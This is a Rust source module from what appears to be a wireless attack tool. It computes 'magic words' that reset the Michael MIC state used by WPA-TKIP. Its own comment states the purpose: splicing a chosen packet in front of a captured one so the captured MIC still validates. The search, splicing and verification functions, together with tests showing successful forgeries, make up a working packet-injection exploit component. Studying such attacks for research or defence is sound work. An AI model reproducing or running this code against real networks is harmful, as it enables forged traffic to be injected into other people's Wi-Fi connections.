//! Magic words: two message words that drive the Michael state from a chosen
//! starting point back to a target state.
//!
//! With the target set to the key state, whatever follows the magic words is
//! MIC'd exactly as if it were a message of its own, so a known packet can be
//! prepended to a captured one without invalidating the captured MIC.

mod filter;
mod search;
mod variants;

use std::ops::Range;

use serde::{Deserialize, Serialize};

pub use filter::{build_filter, FilterSpec};
pub use search::{forward, search_filtered, search_naive, FilteredHit, NaiveHit, SearchOptions};
pub use variants::{gen_variants, variant_bytes, VariantStrategy};

use crate::frames::packet::ParseError;
use crate::michael::{mic_compute, state_after, Mic, MicHeader, MicKey, Michael32, MichaelError, MichaelState};

/// The whole 32-bit magic-word domain.
pub const FULL_DOMAIN: Range<u64> = 0..1 << 32;

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CollisionError {
    #[error("no magic words in the scanned range")]
    NotFound,
    #[error("search cancelled")]
    Cancelled,
    #[error("empty input")]
    EmptyInput,
    #[error("filter width {0} out of range")]
    InvalidFilterWidth(u32),
    #[error("range {start}..{end} outside domain of {domain}")]
    InvalidRange { start: u64, end: u64, domain: u64 },
    #[error("naive search takes exactly one initial state, got {0}")]
    NotSingleState(usize),
    #[error("inserted prefix of {0} bytes is not word aligned")]
    Unaligned(usize),
    #[error("requested {requested} variants, strategy allows {capacity}")]
    CapacityExceeded { requested: u64, capacity: u64 },
    #[error("template: {0}")]
    Parse(#[from] ParseError),
    #[error(transparent)]
    Michael(#[from] MichaelError),
}

/// Where the magic words return the Michael state to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum Anchor {
    /// Back to the key itself; the original 16 header bytes must follow the
    /// magic words.
    KeyState,
    /// To the state after the original header; saves those 16 bytes but ties
    /// the words to the original SA, DA and priority.
    AfterHeaderState,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct MagicWords {
    pub mw1: u32,
    pub mw2: u32,
}

impl MagicWords {
    pub fn to_bytes(&self) -> [u8; 8] {
        let mut b = [0u8; 8];
        b[..4].copy_from_slice(&self.mw1.to_le_bytes());
        b[4..].copy_from_slice(&self.mw2.to_le_bytes());
        b
    }

    pub fn apply(&self, s: MichaelState) -> MichaelState {
        s.absorb(self.mw1).absorb(self.mw2)
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CollisionProblem {
    pub key: MicKey,
    pub initial_states: Vec<(u32, MichaelState)>,
    pub target: MichaelState,
    pub anchor: Anchor,
}

impl CollisionProblem {
    pub fn new(
        key: MicKey,
        initial_states: Vec<(u32, MichaelState)>,
        anchor: Anchor,
        original_header: &MicHeader,
    ) -> Result<Self, CollisionError> {
        if initial_states.is_empty() {
            return Err(CollisionError::EmptyInput);
        }
        Ok(Self {
            key,
            initial_states,
            target: anchor_target(&key, anchor, original_header),
            anchor,
        })
    }

    /// Problem for a single inserted prefix under `new_header`.
    pub fn for_prefix(
        key: MicKey,
        new_header: &MicHeader,
        inserted_prefix: &[u8],
        anchor: Anchor,
        original_header: &MicHeader,
    ) -> Result<Self, CollisionError> {
        if !inserted_prefix.len().is_multiple_of(4) {
            return Err(CollisionError::Unaligned(inserted_prefix.len()));
        }
        let s = state_after(&key, Some(new_header), inserted_prefix, false)?;
        Self::new(key, vec![(0, s)], anchor, original_header)
    }

    /// Right words of every initial state, as input for [`build_filter`].
    pub fn right_words(&self) -> Vec<(u32, u32)> {
        self.initial_states.iter().map(|&(id, s)| (id, s.r)).collect()
    }
}

pub fn anchor_target(key: &MicKey, anchor: Anchor, original_header: &MicHeader) -> MichaelState {
    match anchor {
        Anchor::KeyState => key.initial_state(),
        Anchor::AfterHeaderState => key.initial_state().absorb_all(&original_header.words()),
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Solution {
    pub variant_id: u32,
    pub words: MagicWords,
    /// Domain words scanned up to and including the hit.
    pub position: u64,
}

pub fn find_magic_words_naive(
    p: &CollisionProblem,
    range: Range<u64>,
    opts: &SearchOptions,
) -> Result<Solution, CollisionError> {
    let [(variant_id, s)] = p.initial_states[..] else {
        return Err(CollisionError::NotSingleState(p.initial_states.len()));
    };
    let hit = search_naive::<Michael32>((s.l, s.r), (p.target.l, p.target.r), range, opts)?;
    Ok(Solution {
        variant_id,
        words: MagicWords {
            mw1: hit.mw1,
            mw2: hit.mw2,
        },
        position: hit.position,
    })
}

pub fn find_magic_words_filtered(
    p: &CollisionProblem,
    filter: &FilterSpec,
    range: Range<u64>,
    opts: &SearchOptions,
) -> Result<Solution, CollisionError> {
    let states: Vec<(u32, (u32, u32))> = p
        .initial_states
        .iter()
        .map(|&(id, s)| (id, (s.l, s.r)))
        .collect();
    let hit = search_filtered::<Michael32>(&states, filter, (p.target.l, p.target.r), range, opts)?;
    Ok(Solution {
        variant_id: hit.variant_id,
        words: MagicWords {
            mw1: hit.mw1,
            mw2: hit.mw2,
        },
        position: hit.position,
    })
}

/// `prefix ‖ magic words ‖ [original header bytes if anchored at the key]`.
pub fn splice_prefix(
    inserted_prefix: &[u8],
    mw: &MagicWords,
    anchor: Anchor,
    original_header: &MicHeader,
) -> Vec<u8> {
    let mut out = inserted_prefix.to_vec();
    out.extend_from_slice(&mw.to_bytes());
    if anchor == Anchor::KeyState {
        out.extend_from_slice(&original_header.to_bytes());
    }
    out
}

/// True iff the spliced message under `header` carries `original_mic`.
pub fn verify_magic_words(
    key: &MicKey,
    header: &MicHeader,
    inserted_prefix: &[u8],
    mw: &MagicWords,
    anchor: Anchor,
    original_payload: &[u8],
    original_mic: &Mic,
) -> bool {
    verify_spliced(key, header, header, inserted_prefix, mw, anchor, original_payload, original_mic)
}

/// Like [`verify_magic_words`] when the injected frame's header differs from
/// the original one (e.g. a different QoS priority).
#[allow(clippy::too_many_arguments)]
pub fn verify_spliced(
    key: &MicKey,
    new_header: &MicHeader,
    original_header: &MicHeader,
    inserted_prefix: &[u8],
    mw: &MagicWords,
    anchor: Anchor,
    original_payload: &[u8],
    original_mic: &Mic,
) -> bool {
    if !inserted_prefix.len().is_multiple_of(4) {
        return false;
    }
    let mut body = splice_prefix(inserted_prefix, mw, anchor, original_header);
    body.extend_from_slice(original_payload);
    matches!(mic_compute(key, new_header, &body), Ok(m) if &m == original_mic)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::addr::{Direction, MacAddr};
    use rand::{Rng, SeedableRng};
    use rand_chacha::ChaCha8Rng;

    fn header(prio: u8) -> MicHeader {
        MicHeader::new(MacAddr([2, 0, 0, 0, 0, 9]), MacAddr([2, 0, 0, 0, 0, 1]), prio).unwrap()
    }

    #[test]
    fn planted_instance_verifies() {
        let mut rng = ChaCha8Rng::seed_from_u64(1);
        let key = MicKey::new(rng.gen(), rng.gen(), Direction::ApToClient);
        let h = header(0);
        let prefix: Vec<u8> = (0..36).map(|_| rng.gen()).collect();
        let s = state_after(&key, Some(&h), &prefix, false).unwrap();
        // A small first word keeps the scan short.
        let planted = MagicWords {
            mw1: 0x0002_0000 | rng.gen::<u32>() & 0xffff,
            mw2: rng.gen(),
        };
        let p = CollisionProblem {
            key,
            initial_states: vec![(0, s)],
            target: planted.apply(s),
            anchor: Anchor::KeyState,
        };
        let sol = find_magic_words_naive(&p, 0..1 << 18, &SearchOptions::sequential()).unwrap();
        assert_eq!(sol.words.apply(s), p.target);
        assert!(sol.position <= u64::from(planted.mw1) + 1);
    }

    fn prefix_for(id: u32) -> Vec<u8> {
        let mut p = b"fixedpfx".to_vec();
        p.extend_from_slice(&id.to_le_bytes());
        p
    }

    #[test]
    fn both_anchors_splice_cleanly() {
        let mut rng = ChaCha8Rng::seed_from_u64(2);
        let key = MicKey::new(rng.gen(), rng.gen(), Direction::ApToClient);
        let h = header(5);
        let secret = b"secret packet payload".to_vec();
        let mic = mic_compute(&key, &h, &secret).unwrap();

        for anchor in [Anchor::KeyState, Anchor::AfterHeaderState] {
            let states = (0..4096u32)
                .map(|id| (id, state_after(&key, Some(&h), &prefix_for(id), false).unwrap()))
                .collect();
            let p = CollisionProblem::new(key, states, anchor, &h).unwrap();
            let f = build_filter(&p.right_words(), 4).unwrap();
            let sol = find_magic_words_filtered(&p, &f, FULL_DOMAIN, &SearchOptions::default()).unwrap();
            let prefix = prefix_for(sol.variant_id);
            assert!(verify_magic_words(&key, &h, &prefix, &sol.words, anchor, &secret, &mic));

            let mut flipped = sol.words;
            flipped.mw2 ^= 1 << 7;
            assert!(!verify_magic_words(&key, &h, &prefix, &flipped, anchor, &secret, &mic));

            if anchor == Anchor::KeyState {
                // Without the re-inserted header bytes the MIC no longer matches.
                let mut bare = prefix.clone();
                bare.extend_from_slice(&sol.words.to_bytes());
                bare.extend_from_slice(&secret);
                assert_ne!(mic_compute(&key, &h, &bare).unwrap(), mic);
            }
        }
    }

    #[test]
    fn unaligned_prefix_rejected() {
        let key = MicKey::new(1, 2, Direction::ApToClient);
        let h = header(0);
        assert_eq!(
            CollisionProblem::for_prefix(key, &h, &[0; 6], Anchor::KeyState, &h),
            Err(CollisionError::Unaligned(6))
        );
        let mw = MagicWords { mw1: 0, mw2: 0 };
        assert!(!verify_magic_words(&key, &h, &[0; 6], &mw, Anchor::KeyState, b"", &[0; 8]));
    }

    #[test]
    fn naive_rejects_multiple_states() {
        let key = MicKey::new(1, 2, Direction::ApToClient);
        let h = header(0);
        let p = CollisionProblem::new(
            key,
            vec![(0, MichaelState::new(1, 2)), (1, MichaelState::new(3, 4))],
            Anchor::KeyState,
            &h,
        )
        .unwrap();
        assert_eq!(
            find_magic_words_naive(&p, 0..10, &SearchOptions::sequential()),
            Err(CollisionError::NotSingleState(2))
        );
        assert_eq!(
            CollisionProblem::new(key, vec![], Anchor::KeyState, &h),
            Err(CollisionError::EmptyInput)
        );
    }
}
